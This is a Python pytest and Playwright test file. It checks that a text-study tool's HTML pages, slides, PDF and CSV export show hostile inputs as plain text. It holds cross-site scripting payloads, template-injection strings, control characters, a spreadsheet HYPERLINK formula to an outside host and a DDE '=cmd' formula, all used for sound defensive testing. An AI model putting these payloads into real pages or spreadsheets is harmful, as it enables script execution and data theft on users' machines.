"""A study of texts that are out to break the pages, from its seeds to what a browser shows."""

from __future__ import annotations

import csv
import html
import io
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from playwright.sync_api import Browser, Page, expect
from pypdf import PdfReader

from trstudy.corpus.adding import add_text
from trstudy.starting import start_study
from trstudy.study import open_study
from trstudy.tables import VARIABLES

HOSTILE = [
    '<script>document.title = "owned"; alert(1)</script>',
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)><svg/onload=alert(4)>",
    "{{ 7 * 7 }} {% raw %} ${alert(5)} `code` <!-- hidden",
    "[click](javascript:alert(6)) ![i](x:y) **bold** $$x^2$$",
    "“curly” 'single' \"double\" & &lt;b&gt; &amp;",
    "\u202eright to left\u202c and \u200fa mark",
    "a bell \x07 and an escape \x1b[31mred",
]
FORMULA = '=HYPERLINK("http://x.example/"&A1) helped Freedonia and Sylvania cooperate.'
# 5,700 characters in one sentence: more than the explorer shows at once
LONG = f"Freedonia helped Sylvania with {'bread and milk and ' * 300}butter."
TITLE = 'T <script>alert(7)</script> "q" {{ 1 }} [l](javascript:alert(8)) $\\frac{ $ Привет עברית'
AUTHOR, OUTLET = "A. <img src=x onerror=alert(9)> Writer", "=cmd|' /C calc'!A0 </td> $\\frac{ $ Times"
PAGES = ["index", "01_all", "explorer", "slides"]
# Told apart from the page's own by what they would do or ask for.
INJECTED = "img[src=x], [onerror], [onload], a[href^='javascript:'], body script:not([type]) ~ title"

# parts of the notebooks' page, and what they must show to the letter
QUOTED = {
    "table": [TITLE, AUTHOR, OUTLET, LONG, *HOSTILE[:3]],
    ".kwic": HOSTILE[1:2],
    ".tr-text": HOSTILE[:3],
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    study = root / "study"
    start_study(study, ("Freedonia", "Sylvania"), name='A <b>study</b> & "co"')
    acts = ["helped", "attacked"] * len(HOSTILE)
    said = [f"Freedonia {act} Sylvania, said {words}." for act, words in zip(acts, HOSTILE, strict=False)]
    texts = {"one.txt": [*said, FORMULA], "two.txt": ["Freedonia attacked Sylvania.", LONG, *said[:3]]}
    for name, paragraphs in texts.items():
        (root / name).write_text("\n\n".join(["A Title", *paragraphs, ""]), encoding="utf-8", newline="\n")
    seeds = study / "seeds"
    add_text(
        seeds, root / "one.txt", date="2020", date_source="inferred",
        title=TITLE, author=AUTHOR, outlet=OUTLET,
    )  # fmt: skip
    add_text(seeds, root / "two.txt", date="2024", date_source="inferred", title="A Title")
    bind(study)
    code(study)
    done = subprocess.run(
        [sys.executable, "-m", "trstudy", "report", "--study", str(study)],
        capture_output=True, encoding="utf-8", check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return study / "reports"


def bind(study: Path) -> None:
    """Make one notebook of all: their cells are what is tried here, and one kernel starts sooner than six."""
    bound = nbformat.v4.new_notebook()
    for path in sorted((study / "notebooks").glob("*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            cell.id = f"n{path.stem[:2]}-{cell.id}"
            if bound.cells and cell.metadata.get("tags") == ["parameters"]:  # those of the first can be given
                del cell.metadata["tags"]
            cell.source = cell.source.replace("resamples = 2000", "resamples = 100")
            bound.cells.append(cell)
        path.unlink()
    nbformat.write(bound, study / "notebooks" / "01_all.ipynb")


def code(study: Path) -> None:
    """Lay two coders' codes beside the texts: those of the tags, but that one calls each third unit mixed."""
    rows = []
    for n, tag in enumerate(open_study(study).tags().to_dict("records")):
        codes = {variable: tag[variable] for variable in VARIABLES}
        other = {**codes, "frame": "mixed"} if n % 3 == 0 else codes
        rows.append(
            {
                "unit": tag["sentence_id"], "doc": "two.txt" if "2024" in tag["doc_id"] else "one.txt",
                **{place: tag[place] for place in ("start", "end", "role")}, **codes,
                **{f"{variable}_a": code for variable, code in codes.items()},
                **{f"{variable}_b": code for variable, code in other.items()},
            }
        )  # fmt: skip
    path = study / "seeds" / "codings" / "gold.tsv"
    pd.DataFrame(rows).to_csv(path, sep="\t", index=False, lineterminator="\n")


@pytest.fixture
def desk(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, offline=True)
    page, wrong = context.new_page(), []
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: wrong.append(message.text))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("requestfailed", lambda request: wrong.append(request.url))
    yield page, wrong
    context.close()
    assert wrong == []


def test_every_page_shows_hostile_texts_as_text(desk, report):
    page, _ = desk
    made = {path.relative_to(report).with_suffix("").as_posix() for path in report.rglob("*.html")}
    assert made == set(PAGES)
    for name in PAGES:
        page.goto((report / f"{name}.html").as_uri())
        if name == "slides":
            page.wait_for_function("Reveal.isReady()")
        assert "owned" not in page.title(), name
        assert page.locator(INJECTED).count() == 0, name
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), name
        assert page.evaluate("[...document.images].every(i => i.complete && i.naturalWidth)"), name
        assert "&amp;lt;b&amp;gt;" not in page.locator("body").inner_text(), name


def test_pages_quote_hostile_words_to_the_letter(desk, report):
    page, _ = desk
    page.goto((report / "index.html").as_uri())
    words = page.locator("main").evaluate("main => main.textContent")
    assert [text for text in (TITLE, AUTHOR, OUTLET) if text not in words] == []
    page.goto((report / "01_all.html").as_uri())
    for part, shown in QUOTED.items():
        words = "".join(page.locator(part).evaluate_all("parts => parts.map(part => part.textContent)"))
        assert [text[:60] for text in shown if text not in words] == [], part


def test_the_document_for_paper_prints_hostile_texts(report):
    pages = PdfReader(report / "report.pdf").pages[:12]
    printed = "".join("".join(page.extract_text().split()) for page in pages)
    for text in (TITLE.partition(" $")[0], AUTHOR, HOSTILE[0], HOSTILE[2], HOSTILE[3], FORMULA):
        assert "".join(text.split()) in printed


def test_the_explorer_filters_and_exports_hostile_texts(desk, report):
    page, _ = desk
    page.goto((report / "explorer.html").as_uri())
    page.get_by_role("searchbox").fill("<script>document")
    found = page.locator("#reading a.s")
    expect(found).to_have_count(2)
    assert all(HOSTILE[0] in words for words in found.evaluate_all("links => links.map(a => a.textContent)"))
    page.get_by_role("searchbox").fill("")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export").click()
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    csv.field_size_limit(2_000_000)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    texts = [row["text"] for row in rows]
    assert LONG in texts
    assert f"'{FORMULA}" in texts
    assert any(HOSTILE[0] in text for text in texts)
    assert {row["outlet"] for row in rows} == {"", f"'{OUTLET}"}
    assert {html.unescape(row["title"]) for row in rows} == {TITLE, "A Title"}
